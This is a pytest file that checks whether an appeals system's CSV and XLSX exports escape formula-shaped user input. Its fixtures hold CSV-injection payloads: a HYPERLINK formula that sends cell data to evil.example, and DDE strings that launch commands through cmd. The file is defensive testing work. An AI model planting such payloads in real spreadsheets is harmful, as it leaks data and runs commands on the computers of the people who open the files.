"""Issue 15, item 8: every spreadsheet export (CSV and XLSX) keeps what people typed from running as a formula.

The exports are the audit trail's CSV and the supervisor's accountability tables (districts, a district's
categories, a district's overdue appeals) as CSV and XLSX. Each test puts formula-shaped text where people type
(names of a district, a category and a department; an audit summary) and reads every cell of every export.
"""
from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from app.extensions import db
from app.kit import audit, spreadsheets
from app.models import Category, Department, District, utcnow
from tests.factories import PASSWORD, create_appeal, create_reference_data, create_user

EVIL = {
    "district": '=HYPERLINK("http://evil.example/?"&A1,"Ganja")',
    "category": "+cmd|' /C calc'!A0",
    "department": "@SUM(1+1)*cmd|' /C calc'!A0",
}
STARTS = ("=", "+", "-", "@", "\t", "\r")


def _dangerous(value) -> bool:
    return isinstance(value, str) and value.startswith(STARTS)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"])
def test_item8_safe_cell_turns_a_formula_start_into_text(text):
    assert spreadsheets.safe_cell(text) == "'" + text


def test_item8_safe_cell_leaves_figures_and_plain_text_alone():
    assert spreadsheets.safe_cell(-3) == -3 and spreadsheets.safe_cell(2.5) == 2.5
    assert spreadsheets.safe_cell(None) == "" and spreadsheets.safe_cell("Gəncə") == "Gəncə"
    assert spreadsheets.safe_row(["a", "=b", 1]) == ["a", "'=b", 1]


@pytest.fixture
def poisoned(app):
    """Ganja with a formula for a name, a category and a department likewise, and an overdue appeal in them."""
    with app.app_context():
        districts = create_reference_data()
        gnc = districts["GNC"]
        category = db.session.scalars(select(Category).order_by(Category.position)).first()
        department = db.session.scalars(select(Department).where(Department.district_id == gnc.id)).first()
        for row, text in ((db.session.get(District, gnc.id), EVIL["district"]), (category, EVIL["category"]),
                          (department, EVIL["department"])):
            row.name_az = row.name_ru = row.name_en = text
        db.session.commit()
        citizen = create_user("citizen@example.az")
        create_user("supervisor@example.az", roles=[("supervisor", None)])
        create_user("admin@example.az", roles=[("admin", None)])
        appeal = create_appeal(citizen, gnc, category, now=utcnow() - timedelta(days=40))
        appeal.department_id = department.id
        db.session.commit()
        return {"category": category.id}


def _csv_cells(data: bytes) -> list[str]:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8").lstrip("\ufeff"))))
    return [cell for row in rows for cell in row]


def _xlsx_cells(data: bytes) -> list:
    sheet = load_workbook(io.BytesIO(data)).active
    # A formula cell is stored as its formula text, data type "f": neither may appear.
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    return [value for row in sheet.iter_rows(values_only=True) for value in row]


def test_item8_accountability_exports_guard_against_formula_injection(app, web, client, poisoned):
    assert web.login("supervisor@example.az", PASSWORD).status_code == 302
    client.get("/?lang=en")
    exports = ["/office/accountability", "/office/accountability/GNC",
               f"/office/accountability/GNC/overdue?category={poisoned['category']}"]
    seen = set()
    for url in exports:
        for export in ("csv", "xlsx"):
            response = client.get(f"{url}{'&' if '?' in url else '?'}format={export}")
            assert response.status_code == 200, (url, export)
            cells = _csv_cells(response.data) if export == "csv" else _xlsx_cells(response.data)
            assert not [cell for cell in cells if _dangerous(cell)], (url, export, cells)
            seen |= {key for key, text in EVIL.items() if "'" + text in cells}
    # The poisoned names did reach the exports (as text): the test looked at the right cells.
    assert seen == {"district", "category", "department"}, seen


def test_item8_audit_csv_guards_against_formula_injection(app, web, client, poisoned):
    with app.test_request_context():
        audit.record("test.formula", actor=None, object_type="appeal", object_id=1, summary="=2+5+cmd|' /C calc'!A0",
                     before={"status": "-1"}, after={"status": "@x"})
        db.session.commit()
    assert web.login("admin@example.az", PASSWORD).status_code == 302
    response = client.get("/admin/audit.csv?action=test")
    assert response.status_code == 200
    cells = _csv_cells(response.data)
    assert "'=2+5+cmd|' /C calc'!A0" in cells
    assert not [cell for cell in cells if _dangerous(cell)], cells
